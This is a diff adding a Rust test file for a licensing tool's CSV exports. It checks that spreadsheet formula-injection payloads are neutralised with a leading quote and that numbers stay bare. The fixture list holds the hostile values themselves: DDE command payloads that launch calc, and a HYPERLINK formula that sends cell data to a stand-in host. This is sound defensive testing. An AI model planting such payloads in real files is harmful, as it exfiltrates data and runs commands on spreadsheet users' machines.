@@ -1,0 +1,146 @@
+//! Exports opened by a spreadsheet run nothing: names that are formula injection payloads come
+//! out as text with a leading quote, every text cell quoted, numbers bare.
+
+use preflight_engine::{
+    Currency, Deployment, Entitlement, LicenceType, Metric, Money, ProductId, RulePack, SourceRef,
+    UnmatchedLine, Workbook, evaluate,
+};
+use preflight_import::export::{entitlements_csv, results_csv};
+use preflight_import::{Options, csv_text, read_entitlements};
+use rust_decimal::dec;
+
+/// Names as a hostile or careless file writes them, and what a spreadsheet must show.
+const HOSTILE: &[(&str, &str)] = &[
+    (
+        "=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")",
+        "'=HYPERLINK(\"http://example.invalid/?d=\"&A1,\"Open\")",
+    ),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    (
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0",
+    ),
+    ("\t=1+1", "'\t=1+1"),
+    ("\r=1+1", "'\r=1+1"),
+    ("\n=1+1", "'\n=1+1"),
+    ("Acme \"Pro\", Suite; =1+2", "Acme \"Pro\", Suite; =1+2"),
+    ("Café Server", "Café Server"),
+];
+
+fn source(row: u32) -> SourceRef {
+    SourceRef {
+        file: "=evil.csv".into(),
+        row,
+    }
+}
+
+#[test]
+fn hostile_names_in_an_entitlement_export_are_text_with_a_leading_quote() {
+    let catalogue = RulePack::builtin().catalogue;
+    // Lines that matched no product keep their names as the file wrote them.
+    let unmatched: Vec<UnmatchedLine> = HOSTILE
+        .iter()
+        .enumerate()
+        .map(|(index, (name, _))| UnmatchedLine {
+            publisher: String::new(),
+            product: name.to_string(),
+            edition: String::new(),
+            quantity: "-3".into(),
+            source: SourceRef {
+                file: "hostile.csv".into(),
+                row: index as u32 + 2,
+            },
+        })
+        .collect();
+    // A matched line with a hostile version and legal entity, and numbers, negative ones too.
+    let mut line = Entitlement::new(
+        ProductId("ms-sql-server-enterprise".into()),
+        Metric::Core,
+        LicenceType::PerpetualWithSa,
+        2,
+        16,
+        source(2),
+    );
+    line.unit_price = Some(Money::new(dec!(15123.00), Currency::USD));
+    line.version = Some("=2022".into());
+    line.legal_entity = Some("@Contoso".into());
+    line.start = Some("2026-01-31".parse().unwrap());
+
+    let bytes = entitlements_csv(&[line], &unmatched, &catalogue);
+    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 with a BOM");
+    let text = String::from_utf8(bytes.clone()).unwrap();
+    // Numbers bare (a spreadsheet reads them as numbers), text quoted.
+    assert!(
+        text.contains(
+            "\"SQL Server Enterprise\",\"Per core\",\"Perpetual + SA\",2,16,32,15123.00,\"USD\",,2026-01-31,,\"'=2022\",\"'@Contoso\",\"'=evil.csv\",2\r\n"
+        ),
+        "{text}"
+    );
+    // Read back as a spreadsheet would split it: one cell each, the dangerous ones quoted.
+    let table = csv_text::read_table("export.csv", &bytes).unwrap();
+    assert_eq!(table.rows.len(), 2 + HOSTILE.len());
+    for (row, (_, shown)) in table.rows[2..].iter().zip(HOSTILE) {
+        assert_eq!(row.cells.len(), 15, "{row:?}");
+        assert_eq!(row.cells[0], *shown);
+        assert_eq!(row.cells[13], "hostile.csv");
+        // A quantity as the file wrote it is text, so "-3" is neutralised too.
+        assert_eq!(row.cells[4], "'-3");
+    }
+    // No cell of the export begins a formula.
+    for row in &table.rows {
+        for cell in &row.cells {
+            assert!(
+                !cell.starts_with(['=', '+', '@', '\t', '\r', '\n'])
+                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
+                "{cell:?}"
+            );
+        }
+    }
+}
+
+#[test]
+fn results_export_the_positions_with_numbers_as_numbers() {
+    let pack = RulePack::builtin();
+    let deployment: Deployment = serde_json::from_slice(
+        &std::fs::read(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/../../public/demo/deployment.json"
+        ))
+        .unwrap(),
+    )
+    .unwrap();
+    let mut workbook = Workbook::new(Currency::USD, deployment);
+    let entitlements = std::fs::read(concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../public/demo/entitlements.csv"
+    ))
+    .unwrap();
+    let imported = read_entitlements(
+        "entitlements.csv",
+        &entitlements,
+        &Options::default(),
+        &pack.catalogue,
+    )
+    .unwrap();
+    workbook.put_source(imported.value);
+    let evaluation = evaluate(&workbook, &pack, "2026-11-28".parse().unwrap());
+    let text = String::from_utf8(results_csv(&evaluation, &pack.catalogue)).unwrap();
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(
+        lines[0],
+        "\u{feff}\"Product\",\"Metric\",\"In use today\",\"Required by the project\",\"Entitled\",\"Shortfall after\",\"To buy\",\"Surplus after\",\"Cost\",\"Currency\""
+    );
+    // The README's figures: 128 core licences of each; 48 and 32 owned; 80 and 96 to buy.
+    assert!(
+        lines[1].starts_with("\"Windows Server Datacenter\",\"Per core\",,128,48,80,80,0,"),
+        "{}",
+        lines[1]
+    );
+    assert!(
+        lines[2].starts_with("\"SQL Server Enterprise\",\"Per core\",,128,32,96,96,0,"),
+        "{}",
+        lines[2]
+    );
+}
